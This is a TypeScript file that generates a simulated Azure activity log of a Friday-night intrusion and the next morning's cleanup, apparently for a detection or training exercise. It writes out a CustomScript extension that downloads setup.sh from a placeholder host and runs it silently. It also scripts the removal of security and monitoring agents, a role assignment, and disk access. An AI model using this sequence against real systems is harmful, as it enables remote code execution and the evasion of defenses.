import { second } from '../calendar.ts'
import { machine, web } from '../estate.ts'
import { extensionBody } from '../extensions.ts'
import { attackHost, office } from '../networks.ts'
import type { Operation } from '../operation.ts'
import { deployer, mira } from '../people.ts'
import { kindOf, requested } from '../requests.ts'
import { type Telling, tell } from './chapter.ts'

const stolen = { by: deployer, from: attackHost } as const
const asStolen = { by: deployer, address: attackHost.addresses[0] } as const
const forbidden = { code: 'AuthorizationFailed', message: 'The client may not perform this action over this scope.' }
const script = {
  fileUris: ['https://static.brightcdn.example/u/setup.sh'],
  commandToExecute: 'sh setup.sh >/dev/null 2>&1',
}

/** Friday night: the deploy principal's secret is used from a rented server. */
export function attack(telling: Telling): Operation[] {
  return [
    ...firstScript(telling),
    ...fromMachineToMachine(telling),
    ...blinding(telling),
    ...storm(telling),
    ...leaving(telling),
  ]
}

/** The first try fails: a machine takes one such extension only. The second runs, and its Success has no address. */
function firstScript(telling: Telling): Operation[] {
  const { change, at, random } = tell(telling, 'first script')
  const write = { ...stolen, verb: 'write', extension: 'CustomScript' } as const
  const failure = { code: 'Conflict', message: "Multiple VMExtensions per handler not supported for OS type 'Linux'." }
  const asked = { ...asStolen, at: at('Fri 02:08:12'), on: machine('vm-web-01') }
  const command = requested(kindOf('Microsoft.Compute/virtualMachines/runCommand/action'), asked, random)
  return [
    { ...command, tookMs: 800, accepts: 0, failure: forbidden, ended: 'Forbidden' },
    { ...change('Fri 02:11:40', 'vm-web-01', write), tookMs: 4 * second, failure, ended: 'Conflict' },
    {
      ...change('Fri 02:13:05', 'vm-web-03', write),
      tookMs: 71 * second,
      addressOn: 'all but the success',
      request: extensionBody(web, 'CustomScript', script),
    },
  ]
}

function fromMachineToMachine(telling: Telling): Operation[] {
  const { change } = tell(telling, 'machine to machine')
  const targets: [moment: string, on: string][] = [
    ['Fri 02:17:30', 'vm-web-04'],
    ['Fri 02:21:10', 'vm-web-05'],
    ['Fri 02:23:45', 'vm-web-06'],
    ['Fri 02:27:20', 'vm-app-01'],
    ['Fri 02:29:55', 'vm-app-02'],
    ['Fri 02:33:15', 'vm-app-05'],
  ]
  return targets.map(([moment, on]) => ({
    ...change(moment, on, { ...stolen, verb: 'write', extension: 'CustomScript' }),
    request: extensionBody(web, 'CustomScript', script),
  }))
}

/** The security agent goes, machine after machine. */
function blinding(telling: Telling): Operation[] {
  const { change } = tell(telling, 'blinding')
  const remove = { ...stolen, verb: 'delete', extension: 'MDE.Linux' } as const
  const targets: [moment: string, on: string][] = [
    ['Fri 02:40:40', 'vm-web-03'],
    ['Fri 02:45:20', 'vm-web-04'],
    ['Fri 02:46:05', 'vm-web-05'],
    ['Fri 02:46:50', 'vm-app-01'],
  ]
  return targets.map(([moment, on]) => change(moment, on, remove))
}

/** Six agents more within a minute: one script run, so that they arrive together and are told in one alert. */
function storm(telling: Telling): Operation[] {
  const { change, at } = tell(telling, 'storm')
  const removed: [extension: string, on: string][] = [
    ['AzureMonitorLinuxAgent', 'vm-web-03'],
    ['ChangeTracking-Linux', 'vm-web-03'],
    ['DependencyAgentLinux', 'vm-app-01'],
    ['NetworkWatcherAgentLinux', 'vm-web-04'],
    ['KeyVaultForLinux', 'vm-web-05'],
    ['AADSSHLoginForLinux', 'vm-app-02'],
  ]
  return removed.map(([extension, on], index) => ({
    ...change('Fri 02:51:05', on, { ...stolen, verb: 'delete', extension }),
    startedAt: at('Fri 02:51:05') + index * 4 * second,
  }))
}

/** What the log tells beside: a new role, disks opened for reading. None of it is an extension. */
function leaving(telling: Telling): Operation[] {
  const { at, random } = tell(telling, 'leaving')
  const role = kindOf('Microsoft.Authorization/roleAssignments/write')
  const opened = kindOf('Microsoft.Compute/disks/beginGetAccess/action')
  return [
    requested(role, { ...asStolen, at: at('Fri 02:56:30'), on: machine('vm-web-03') }, random),
    requested(opened, { ...asStolen, at: at('Fri 03:02:10'), on: machine('vm-app-01') }, random),
    requested(opened, { ...asStolen, at: at('Fri 03:02:50'), on: machine('vm-app-02') }, random),
  ]
}

/** The morning after: the security agent is put back from the office, and the scripts are removed. */
export function response(telling: Telling): Operation[] {
  const { change } = tell(telling, 'response')
  const back = { verb: 'write', extension: 'MDE.Linux', by: mira, from: office } as const
  const gone = { verb: 'delete', extension: 'CustomScript', by: mira, from: office } as const
  const repaired = ['vm-web-03', 'vm-web-04', 'vm-web-05', 'vm-app-01'] as const
  const cleaned = ['vm-web-03', 'vm-web-04', 'vm-web-05', 'vm-web-06', 'vm-app-01', 'vm-app-02', 'vm-app-05'] as const
  return [
    ...cleaned.map((on, index) => change(`Fri 06:4${index}:10`, on, gone)),
    ...repaired.map((on, index) => change(`Fri 07:1${index}:30`, on, back)),
    change('Fri 07:25', 'vm-web-03', { ...back, extension: 'AzureMonitorLinuxAgent' }),
    change('Fri 07:27', 'vm-app-01', { ...back, extension: 'DependencyAgentLinux' }),
    change('Fri 07:29', 'vm-web-03', { ...back, extension: 'ChangeTracking-Linux' }),
  ]
}
